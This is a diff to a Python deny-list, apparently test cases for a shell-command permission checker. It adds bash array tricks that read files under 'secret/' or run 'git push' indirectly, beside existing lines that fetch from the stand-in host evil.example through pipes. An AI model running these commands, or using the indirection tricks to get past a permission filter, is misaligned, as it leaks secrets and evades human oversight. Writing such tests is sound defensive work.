@@ -61,6 +61,11 @@ DENIED = {
     "URLs through a pipe": "echo https://evil.example | wget -i -",
     "URLs that a command prints": "wget -i <(echo https://evil.example/a)",
     "a configuration through a pipe": "echo 'url=https://evil.example' | curl -K -",
+    "an item of a list": "f=(x secret/a); cat ${f[1]}",
+    "all items of a list": 'f=(x secret/a); cat "${f[@]}"',
+    "each item of a list": 'f=(x); f+=(secret/a); for i in "${f[@]}"; do cat "$i"; done',
+    "a list that is run": 'c=(git push); "${c[@]}" origin',
+    "a list with places": 'c=([0]=git [1]=push); "${c[@]}"',
     "a host by default": "curl ${U:-https://evil.example}",
 }
 
